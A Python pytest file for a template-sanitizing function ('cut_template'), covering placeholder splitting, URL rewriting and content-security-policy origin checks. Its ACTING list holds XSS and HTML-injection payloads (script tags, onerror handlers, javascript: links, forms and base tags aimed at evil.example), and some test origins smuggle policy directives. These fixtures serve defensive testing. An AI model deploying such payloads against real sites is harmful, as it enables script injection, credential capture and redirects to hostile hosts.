import pytest

from gatelodge.errors import Invalid
from gatelodge.pages.template import cut_template

PLACE = '<div id="api"></div>'
URI = "https://cdn.example/theme/page.html"

ACTING = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    '<button form="attributeVerification" formaction="https://evil.example">x</button>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="import" href="https://evil.example">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    '<video src="data:text/html,<script>alert(1)</script>"></video>',
]


@pytest.mark.parametrize("acting", ACTING)
@pytest.mark.parametrize("around", ["{}" + PLACE, PLACE + "{}", "<div>{}" + PLACE + "</div>"])
def test_nothing_that_acts_is_left(acting: str, around: str) -> None:
    cut = cut_template(around.format(acting), URI, is_development=False)
    kept = (cut.before + cut.after).lower()
    for word in ("<script", "onerror", "javascript:", "<form", "<input", "<button", "<iframe"):
        assert word not in kept
    for word in ("<base", "<meta", "<object", "<embed", "<svg", "<math", "data:", "rel=import"):
        assert word not in kept


@pytest.mark.parametrize(
    ("html", "before", "after"),
    [
        (f"<p>a</p>{PLACE}<p>b</p>", "<p>a</p>", "<p>b</p>"),
        ('<main><div class="x" id="api"><div>old</div></div></main>', "<main>", "</main>"),
        (f"<p>é\nü</p>\n{PLACE}\nend", "<p>é\nü</p>\n", "\nend"),
        (f"<div><img src='i.png'>{PLACE}", None, "</div>"),
        (f"<p>open{PLACE}", "<p>open</p>", ""),
    ],
)
def test_a_template_is_cut_where_the_form_goes(html: str, before: str | None, after: str) -> None:
    cut = cut_template(html, URI, is_development=False)
    assert before is None or cut.before == before
    assert cut.after == after


def test_addresses_become_absolute_and_their_origins_are_told() -> None:
    html = f'<link rel="stylesheet" href="../a.css"><img src="//img.example/x.png">{PLACE}'
    cut = cut_template(html, URI, is_development=False)
    assert 'href="https://cdn.example/a.css"' in cut.before
    assert cut.sources == ("https://cdn.example", "https://img.example")


@pytest.mark.parametrize("host", ["a;script-src *", "a b", "[::1", "a,b", "evil.example;x"])
def test_an_origin_that_would_say_more_in_a_policy_is_not_told(host: str) -> None:
    cut = cut_template(f'<img src="https://{host}/x.png">{PLACE}', URI, is_development=False)
    assert cut.sources == ()


def test_plain_http_is_for_development() -> None:
    html = f'<img src="http://127.0.0.1:9/x.png">{PLACE}'
    assert cut_template(html, URI, is_development=True).sources == ("http://127.0.0.1:9",)
    hardened = cut_template(html, URI, is_development=False)
    assert (hardened.sources, "http:" in hardened.before) == ((), False)


@pytest.mark.parametrize("html", ["", "<p>api</p>", PLACE * 2, '<span id="api"></span>'])
def test_a_page_without_exactly_one_place_is_refused(html: str) -> None:
    with pytest.raises(Invalid):
        cut_template(html, URI, is_development=False)
